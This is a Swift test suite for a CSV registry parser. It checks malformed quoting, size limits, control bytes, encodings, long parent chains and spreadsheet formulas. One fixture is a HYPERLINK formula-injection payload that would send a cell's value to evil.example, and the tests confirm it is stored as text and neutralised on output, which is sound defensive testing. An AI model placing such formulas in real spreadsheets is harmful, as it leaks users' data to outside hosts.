import Foundation
import PKRICore
import Testing

/// Registry files built to hurt: broken quoting, sizes past the reader's
/// limits, NUL bytes, spreadsheet formulas, and the shapes Excel gives a
/// file. Each is rejected with a message at its `file:line:column`, or read
/// as plain text, within 5 s of CPU time.
@Suite("Hostile registry CSV")
struct HostileRegistryCSVTests {
    static let file = "hostile.csv"
    static let agencyHeader = "id,name,type,region,parent"
    static let emptyMessage = "the file is empty; its first line must be a header: id,name,type,region,parent"
        + " or id,name,agency,kipp_year,kipp_award,replicates,status"

    struct Outcome {
        let registry: RegistryFile?
        let diagnostics: [Diagnostic]

        var errors: [Diagnostic] { diagnostics.errors }

        var agencies: [Agency] {
            if case .agencies(let a)? = registry?.records { return a }
            return []
        }

        /// Rejected with exactly one error, this message, here.
        func expectOnlyError(_ message: String, line: Int, column: Int,
                             sourceLocation: Testing.SourceLocation = #_sourceLocation) {
            #expect(registry == nil, "a hostile file must not load", sourceLocation: sourceLocation)
            #expect(errors.count == 1, "\(errors)", sourceLocation: sourceLocation)
            #expect(errors.first?.message == message, sourceLocation: sourceLocation)
            #expect(errors.first?.location == SourceLocation(file: HostileRegistryCSVTests.file, line: line, column: column),
                    "\(errors)", sourceLocation: sourceLocation)
        }

        func expectOnlyError(_ message: String, at csv: MarkedCSV, _ marker: Int = 1,
                             sourceLocation: Testing.SourceLocation = #_sourceLocation) {
            let at = csv.location(marker, file: HostileRegistryCSVTests.file)
            expectOnlyError(message, line: at.line, column: at.column ?? 0, sourceLocation: sourceLocation)
        }
    }

    /// Reads and checks `bytes` as a registry file, within 5 s of CPU.
    func load(_ bytes: [UInt8], sourceLocation: Testing.SourceLocation = #_sourceLocation) -> Outcome {
        let known = RegistryFile.Known(agencies: [Agency(id: "bkn", name: "Badan Kepegawaian Negara", type: .lembaga)])
        let start = threadCPUTime()
        let outcome: Outcome
        do {
            let registry = try RegistryFile(bytes, file: Self.file, known: known, language: .en)
            outcome = Outcome(registry: registry, diagnostics: registry.warnings)
        } catch {
            outcome = Outcome(registry: nil, diagnostics: error.diagnostics)
        }
        let elapsed = threadCPUTime() - start
        #expect(elapsed < .seconds(5), "took \(elapsed)", sourceLocation: sourceLocation)
        return outcome
    }

    func load(_ csv: MarkedCSV, sourceLocation: Testing.SourceLocation = #_sourceLocation) -> Outcome {
        load(csv.bytes, sourceLocation: sourceLocation)
    }

    // MARK: - Quoting

    @Test func unbalancedQuoteIsLocatedAtItsOpening() {
        let csv = MarkedCSV("\(Self.agencyHeader)\nbkn-1,⟦1⟧\"Kantor, tanpa penutup,lembaga,,\nbkn-2,Kantor,lembaga,,\n")
        load(csv).expectOnlyError("the quote opened here is never closed before the end of the file", at: csv)
    }

    @Test func quoteInsideAnUnquotedFieldIsLocated() {
        let csv = MarkedCSV("\(Self.agencyHeader)\nbkn-1,Kantor ⟦1⟧\"Pusat\",lembaga,,\n")
        load(csv).expectOnlyError("a quote inside an unquoted field; enclose the whole field in quotes and double each quote inside it (\"\")",
                                  at: csv)
    }

    @Test func textAfterAClosingQuoteIsLocated() {
        let csv = MarkedCSV("\(Self.agencyHeader)\nbkn-1,\"Kantor\"⟦1⟧x,lembaga,,\n")
        load(csv).expectOnlyError("'x' after the closing quote; a quoted field must end at a delimiter or the end of the line", at: csv)
    }

    /// A line break inside quotes is kept as LF whatever the file uses, and
    /// the lines after it are still counted right.
    @Test func crlfInsideAQuotedFieldIsKeptAsLF() {
        let csv = MarkedCSV("\(Self.agencyHeader)\r\nbkn-1,\"Baris satu\r\nBaris dua\",lembaga,,bkn\r\nbkn-2,Kantor,⟦1⟧lembagaa,,\r\n")
        let outcome = load(csv)
        outcome.expectOnlyError("unknown type 'lembagaa'; expected one of kementerian, lembaga, provinsi, kabupaten, kota, bumn, bumd",
                                at: csv)
        let fixed = load(Array(csv.text.replacingOccurrences(of: "lembagaa", with: "lembaga").utf8))
        #expect(fixed.agencies.first?.name == "Baris satu\nBaris dua", "\(fixed.diagnostics)")
        #expect(fixed.agencies.count == 2)
    }

    // MARK: - Sizes

    @Test func lineOf2MiBIsRefusedAtItsStart() {
        let name = String(repeating: "n", count: 2 << 20)
        load(Array("\(Self.agencyHeader)\nbkn-1,\(name),lembaga,,\n".utf8))
            .expectOnlyError("the row is longer than 1048576 bytes (the limit)", line: 2, column: 1)
    }

    @Test func quotedFieldOf2MiBAsksForTheClosingQuote() {
        let name = String(repeating: "n", count: 2 << 20)
        load(Array("\(Self.agencyHeader)\nbkn-1,\"\(name)\",lembaga,,\n".utf8))
            .expectOnlyError("this quoted field is longer than 1048576 bytes; is its closing quote missing?", line: 2, column: 7)
    }

    /// The 1,001st field of `a,a,a,…` starts at column 2,001.
    @Test func fiveThousandColumnsAreRefusedAtTheFirstPastTheLimit() {
        let row = Array(repeating: "a", count: 5_000).joined(separator: ",")
        load(Array("\(Self.agencyHeader)\n\(row)\n".utf8))
            .expectOnlyError("the row has more than 1000 columns (the limit)", line: 2, column: 2_001)
    }

    /// Each agency's parent chain is walked from that agency to its end:
    /// on one long chain that is rows² steps. 3,000 rows (70 KB) must not
    /// take seconds: 5,000 rows took 20 s (fuzz build), 20,000 would take
    /// minutes. The same holds for `replicates` in innovation files.
    @Test(arguments: [RegistryFile.Kind.agencies, .innovations])
    func longChainIsCheckedInBoundedTime(_ kind: RegistryFile.Kind) {
        let n = 3_000
        let rows = kind == .agencies
            ? [Self.agencyHeader, "a0,A,lembaga,,"] + (1..<n).map { "a\($0),A,lembaga,,a\($0 - 1)" }
            : ["id,name,agency,kipp_year,kipp_award,replicates,status", "i0,I,bkn,,,,"] + (1..<n).map { "i\($0),I,bkn,,,i\($0 - 1)," }
        let start = threadCPUTime()
        let outcome = load(Array(rows.joined(separator: "\n").utf8))
        let elapsed = threadCPUTime() - start
        #expect(outcome.diagnostics.isEmpty, "\(outcome.diagnostics.prefix(3))")
        #expect(elapsed < .seconds(1), "took \(elapsed) of CPU")
    }

    // MARK: - Bytes that are not text

    /// A NUL is valid UTF-8 but no registry text: it shows a UTF-16 file
    /// without a byte order mark, or a binary (an .xlsx renamed .csv), and it
    /// cuts a name short wherever C reads it (SQLite's C API, Pango).
    @Test func nulByteIsRefusedWhereItStands() {
        let csv = MarkedCSV("\(Self.agencyHeader)\nbkn-1,Kantor⟦1⟧@Pusat,lembaga,,\n")
        var bytes = csv.bytes
        bytes[bytes.firstIndex(of: UInt8(ascii: "@"))!] = 0
        load(bytes).expectOnlyError(Self.controlMessage("00"), at: csv)
    }

    static func controlMessage(_ hex: String) -> String {
        "a control character (byte 0x\(hex)) is not allowed in a CSV file; save the file again as 'CSV UTF-8'"
    }

    /// Other C0 controls are refused too, inside quotes as well, located
    /// after CRLF, a lone CR (line 2 ends in one) and a line break inside a
    /// quoted field: `@` stands at 4:7.
    @Test(arguments: [(UInt8(0x0B), "0B"), (0x0C, "0C"), (0x1B, "1B"), (0x01, "01")])
    func controlCharacterIsRefusedWhereItStands(_ control: UInt8, _ hex: String) {
        var bytes = Array("\(Self.agencyHeader)\r\nbkn-1,Kantor,lembaga,,\rbkn-2,\"Kantor\r\nPusat @\",lembaga,,\n".utf8)
        bytes[bytes.firstIndex(of: UInt8(ascii: "@"))!] = control
        load(bytes).expectOnlyError(Self.controlMessage(hex), line: 4, column: 7)
    }

    /// Tabs, CR and LF are the controls a spreadsheet writes: they stay data.
    @Test func tabInAFieldIsData() {
        let outcome = load(Array("\(Self.agencyHeader)\nbkn-1,\"Kantor\tPusat\",lembaga,,\n".utf8))
        #expect(outcome.diagnostics.isEmpty, "\(outcome.diagnostics)")
        #expect(outcome.agencies.map(\.name) == ["Kantor\tPusat"])
    }

    @Test func utf16WithoutBOMIsRefused() {
        let bytes: [UInt8] = Array("\(Self.agencyHeader)\nbkn-1,Kantor,lembaga,,\n".utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        load(bytes).expectOnlyError("the file looks like UTF-16 (without a byte order mark); save it again as 'CSV UTF-8'",
                                    line: 1, column: 1)
    }

    @Test func utf16WithBOMIsRefused() {
        let bytes: [UInt8] = [0xFF, 0xFE] + Array("\(Self.agencyHeader)\n".utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        load(bytes).expectOnlyError("the file is UTF-16; save it again as 'CSV UTF-8'", line: 1, column: 1)
    }

    @Test func badUTF8IsLocated() {
        let csv = MarkedCSV("\(Self.agencyHeader)\nbkn-1,Caf⟦1⟧@,lembaga,,\n")
        var bytes = csv.bytes
        bytes[bytes.firstIndex(of: UInt8(ascii: "@"))!] = 0xE9   // Latin-1 é
        load(bytes).expectOnlyError("not valid UTF-8 (byte 0xE9); save the file again as 'CSV UTF-8'", at: csv)
    }

    // MARK: - Formulas are data

    /// Cells that a spreadsheet would run are kept as the text they are, in
    /// the record and in extra columns; only the CSV writer neutralises them
    /// on the way out.
    @Test func formulaLikeCellsAreStoredAsText() {
        let formulas = [#"=HYPERLINK("http://evil.example/?q="&A1,"klik")"#, "+1", "-1", "@SUM(A1:A9)"]
        let quoted = formulas.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        let rows = formulas.indices.map { i in "f\(i),\(quoted[i]),lembaga,,bkn,\(quoted[(i + 1) % 4])" }
        let outcome = load(Array(([Self.agencyHeader + ",catatan"] + rows).joined(separator: "\n").utf8))
        #expect(outcome.diagnostics.isEmpty, "\(outcome.diagnostics)")
        #expect(outcome.agencies.map(\.name) == formulas)
        #expect(outcome.agencies.map { $0.extra["catatan"] } == formulas.indices.map { formulas[($0 + 1) % 4] })
        #expect(formulas.map(FormulaGuard.neutralise) == formulas.map { $0 == "-1" ? $0 : "'" + $0 })
    }

    /// A formula where an id or a code belongs is refused like any other
    /// bad value, at its cell.
    @Test func formulaAsRegionIsAnUnknownRegion() {
        let csv = MarkedCSV("\(Self.agencyHeader)\npemkot-x,Kota X,kota,⟦1⟧=35+78,\n")
        load(csv).expectOnlyError("unknown region code '=35+78' (a Kemendagri code such as 35 or 35.78)", at: csv)
    }

    // MARK: - What Excel writes

    /// Excel under Indonesian settings: a BOM, `;` between fields, CRLF.
    /// Columns count from after the BOM.
    @Test func bomAndSemicolonsAreReadAndLocated() {
        let csv = MarkedCSV("\u{FEFF}id;name;type;region;parent\r\nbkn-1;Kantor, Pusat;lembaga;;bkn\r\nbkn-2;Kantor;⟦1⟧kotak;;\r\n")
        load(csv).expectOnlyError("unknown type 'kotak'; expected one of kementerian, lembaga, provinsi, kabupaten, kota, bumn, bumd",
                                  at: csv)
        let fixed = load(Array(csv.text.replacingOccurrences(of: "kotak", with: "lembaga").utf8))
        #expect(fixed.agencies.map(\.name) == ["Kantor, Pusat", "Kantor"], "\(fixed.diagnostics)")
    }

    // MARK: - Nothing, or only a header

    @Test(arguments: [("empty", ""), ("BOM only", "\u{FEFF}"), ("blank lines", "\r\n\n\r\n")])
    func emptyFileAsksForAHeader(_ what: String, _ text: String) {
        load(Array(text.utf8)).expectOnlyError(Self.emptyMessage, line: 1, column: 1)
    }

    @Test(arguments: ["id,name,type,region,parent\r\n", "id,name,agency,kipp_year,kipp_award,replicates,status"])
    func headerOnlyGivesNoRecords(_ text: String) {
        let outcome = load(Array(text.utf8))
        #expect(outcome.diagnostics.isEmpty, "\(outcome.diagnostics)")
        switch outcome.registry?.records {
        case .agencies(let a)?: #expect(a.isEmpty && text.contains("parent"))
        case .innovations(let i)?: #expect(i.isEmpty && text.contains("kipp_year"))
        case nil: Issue.record("a header alone should load")
        }
    }
}

/// CPU time of the calling thread. A bound on it holds on a busy machine
/// and while other tests run in parallel, where wall time would not.
func threadCPUTime() -> Duration {
    var now = timespec()
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &now)
    return .seconds(now.tv_sec) + .nanoseconds(now.tv_nsec)
}
